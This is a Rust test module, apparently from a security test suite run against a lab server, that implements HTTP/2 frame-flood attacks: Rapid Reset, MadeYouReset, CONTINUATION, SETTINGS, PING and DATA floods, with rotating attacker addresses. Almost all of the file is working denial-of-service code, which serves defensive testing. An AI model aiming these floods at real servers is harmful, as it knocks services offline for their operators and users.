//! Row 51: floods of frames of HTTP/2 (CVE-2023-44487, CVE-2025-8671, CVE-2024-12705 and their kin).

use std::time::{Duration, Instant};

use rhumb_tests::Failure;
use rhumb_tests::rig::encrypted::{EncryptedTransport, Http2Frame, Http2Stream};

use crate::lab::{Lab, asked_at};

/// Frames in all, and in one write.
const FRAMES: usize = 100_000;
const BATCH: usize = 50;
/// A flood that a server slows down ends then.
const LONGEST: Duration = Duration::from_secs(20);
/// How long the attacker listens after each write.
const LISTENING: Duration = Duration::from_micros(200);
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Sends batches of frames until all are sent; connects again, from another address, where the server closes.
fn flood(
    lab: &Lab,
    mut first: impl FnMut(&mut Http2Stream) -> Vec<u8>,
    mut batch: impl FnMut(&mut Http2Stream) -> (Vec<u8>, usize),
) -> Result<String, Failure> {
    let (begun, mut sent, mut connections, mut refused) = (Instant::now(), 0, 0_u16, 0);
    while sent < FRAMES && begun.elapsed() < LONGEST {
        let to = asked_at(Some(EncryptedTransport::Https));
        let Ok(mut connection) = Http2Stream::connect(&lab.attacker(connections % 5000), to) else {
            refused += 1;
            connections += 1;
            continue;
        };
        connections += 1;
        let begin = first(&mut connection);
        let mut open = connection.send(&begin).is_ok();
        while open && sent < FRAMES && begun.elapsed() < LONGEST {
            let (bytes, frames) = batch(&mut connection);
            open = connection.send(&bytes).is_ok();
            sent += frames;
            open = open && connection.drain(LISTENING)?;
        }
    }
    let each = sent / usize::from(connections).max(1);
    let refused = if refused > 0 { format!(", {refused} refused") } else { String::new() };
    Ok(format!("{sent} frames on {connections} connections{refused}, {each} each"))
}

fn nothing(_: &mut Http2Stream) -> Vec<u8> {
    Vec::new()
}

/// Many times what one stream needs.
fn streams(connection: &mut Http2Stream, of_one: impl Fn(u32) -> Vec<u8>, frames: usize) -> (Vec<u8>, usize) {
    let bytes = (0..BATCH / frames).flat_map(|_| of_one(connection.stream())).collect();
    (bytes, BATCH / frames * frames)
}

fn request(stream: u32) -> Vec<u8> {
    let block = Http2Stream::post(30);
    Http2Frame { kind: HEADERS, flags: END_HEADERS, stream, body: &block }.bytes()
}

pub(crate) fn rapid_reset(lab: &Lab) -> Result<String, Failure> {
    let reset = |stream| Http2Frame { kind: RST_STREAM, flags: 0, stream, body: &[0, 0, 0, 8] }.bytes();
    flood(lab, nothing, |connection| {
        streams(connection, |stream| [request(stream), reset(stream)].concat(), 2)
    })
}

/// The client has the server reset its streams, by frames that are wrong.
pub(crate) fn made_you_reset(lab: &Lab) -> Result<String, Failure> {
    let wrong = |stream| Http2Frame { kind: WINDOW_UPDATE, flags: 0, stream, body: &[0; 4] }.bytes();
    flood(lab, nothing, |connection| {
        streams(connection, |stream| [request(stream), wrong(stream)].concat(), 2)
    })
}

pub(crate) fn continuation(lab: &Lab) -> Result<String, Failure> {
    // A field of a long value, which is not to be kept in the table.
    let field = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x7c][..], &[b'a'; 16_000]].concat();
    let first = |connection: &mut Http2Stream| {
        let stream = connection.stream();
        Http2Frame { kind: HEADERS, flags: END_STREAM, stream, body: &Http2Stream::post(30) }.bytes()
    };
    flood(lab, first, |_| (Http2Frame { kind: CONTINUATION, flags: 0, stream: 1, body: &field }.bytes(), 1))
}

fn same(frame: Http2Frame<'_>) -> (Vec<u8>, usize) {
    (frame.bytes().repeat(BATCH), BATCH)
}

pub(crate) fn settings(lab: &Lab) -> Result<String, Failure> {
    let body = [0, 4, 0, 0, 0xff, 0xff];
    flood(lab, nothing, |_| same(Http2Frame { kind: SETTINGS, flags: 0, stream: 0, body: &body }))
}

pub(crate) fn ping(lab: &Lab) -> Result<String, Failure> {
    flood(lab, nothing, |_| same(Http2Frame { kind: PING, flags: 0, stream: 0, body: &[7; 8] }))
}

pub(crate) fn empty_requests(lab: &Lab) -> Result<String, Failure> {
    let block = Http2Stream::post(0);
    flood(lab, nothing, |connection| {
        let frame =
            |stream| Http2Frame { kind: HEADERS, flags: END_HEADERS | END_STREAM, stream, body: &block };
        streams(connection, |stream| frame(stream).bytes(), 1)
    })
}

fn data(lab: &Lab, content: &'static [u8]) -> Result<String, Failure> {
    let first = |connection: &mut Http2Stream| {
        let block = Http2Stream::post(65_000);
        Http2Stream::head(connection.stream(), &block)
    };
    flood(lab, first, |_| same(Http2Frame { kind: 0, flags: 0, stream: 1, body: content }))
}

pub(crate) fn small_data(lab: &Lab) -> Result<String, Failure> {
    data(lab, &[0])
}

pub(crate) fn empty_data(lab: &Lab) -> Result<String, Failure> {
    data(lab, &[])
}
